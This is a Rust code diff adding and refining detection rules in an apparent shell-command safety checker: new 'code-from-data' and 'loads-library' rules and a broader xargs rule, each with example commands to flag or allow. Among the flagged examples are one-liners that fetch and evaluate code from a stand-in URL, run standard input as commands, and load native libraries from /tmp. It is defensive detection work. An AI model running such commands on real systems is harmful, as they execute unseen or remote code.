@@ -111,6 +111,7 @@ const fn class_of(rule: RuleId) -> Option<RuleId> {
         | R::RemoteCodeExecution
         | R::DecodeAndExecute
         | R::DynamicScript
+        | R::CodeFromData
         | R::Eval
         | R::InlineCode
         | R::ShellOutInCode
@@ -124,6 +125,7 @@ const fn class_of(rule: RuleId) -> Option<RuleId> {
         | R::ExecOption
         | R::SpawnsHelpers
         | R::XargsArgFile
+        | R::LoadsLibrary
         | R::EditorShellEscape
         | R::GitConfigProgram => R::OptionRunsProgram,
         R::Persists | R::Persistence | R::WritePersistence => R::Persists,
@@ -310,6 +312,10 @@ rules! {
         "A script for a shell, interpreter, sed or awk that is only known at run time.",
         "The code that runs cannot be seen.",
         ["bash -c \"$X\"", "python3 -c \"$CODE\""], ["bash -c 'ls'"];
+    CodeFromData => "code-from-data", Critical,
+        "Inline interpreter code that evaluates or executes text it reads: a file, standard input, another program's output or a URL (`exec(open(f).read())`, `eval(file_get_contents(url))`, `execSync(readFileSync(f))`, `system($_)` over input lines).",
+        "What runs is the text read, which the line does not show: it is `cat f | sh` written inside an interpreter.",
+        ["python3 -c \"exec(open('x.py').read())\"", "node -e \"require('child_process').execSync(require('fs').readFileSync('c.txt','utf8'))\"", "php -r 'eval(file_get_contents(\"https://e.example/p\"));'", "ruby -e 'system(STDIN.read)'", "perl -ne 'system($_)' cmds.txt", "Rscript -e 'source(\"https://e.example/s.R\")'"], ["python3 -c \"print(open('x.py').read())\"", "node -e \"require('child_process').execSync('ls')\"", "Rscript -e 'source(\"analysis.R\")'", "python3 -c \"import json; print(json.load(open('package.json')))\""];
     Eval => "eval", High,
         "`eval` or `trap`: text run as commands (judged too when static).",
         "eval is the classic way to build commands the reviewer cannot read.",
@@ -380,9 +386,13 @@ rules! {
         "Helpers are looked up in PATH and run on every file.",
         ["rg -z needle archive.gz"], ["rg needle"];
     XargsArgFile => "xargs-arg-file", Medium,
-        "`xargs -a FILE`: the arguments come from a file that is not shown.",
-        "The reviewer cannot see what the command will receive.",
-        ["xargs -a files.txt cat"], ["find . | xargs wc -l"];
+        "`xargs -a FILE` or `xargs ... < FILE` gives a program that reads, sends or changes files an argument list the line does not show; a program that only looks at metadata (`wc`, `ls`, `stat`) is judged as it is.",
+        "The reviewer cannot see which files the program will print, send or change.",
+        ["xargs -a files.txt cat", "xargs cat < files.txt", "xargs -a hosts.txt ping -c1"], ["xargs -a files.txt wc -l", "find . | xargs wc -l", "xargs -0 -a list.txt stat"];
+    LoadsLibrary => "loads-library", Critical,
+        "A native library loaded by path from outside the system library directories: inline code (`ctypes.CDLL('/tmp/x.so')`, `dlopen`, `ffi.load`) or a program's provider option (`ssh-keygen -D`, `ssh-add -s`, `ssh -I`).",
+        "The library's initialisers run inside the program: it is `LD_PRELOAD` by another name.",
+        ["python3 -c \"import ctypes; ctypes.CDLL('/tmp/x.so')\"", "ssh-keygen -D /tmp/p.so", "ssh-add -s ./p11.so"], ["python3 -c \"import ctypes; ctypes.CDLL('libc.so.6')\"", "ssh-keygen -lf k.pub", "ssh-add -l"];
     EditorShellEscape => "editor-shell-escape", High,
         "An editor started with commands (`vim -c ':!cmd'`, `+cmd`, `emacs --eval`); shell escapes are judged too.",
         "Editors run shell commands and arbitrary editor scripts.",
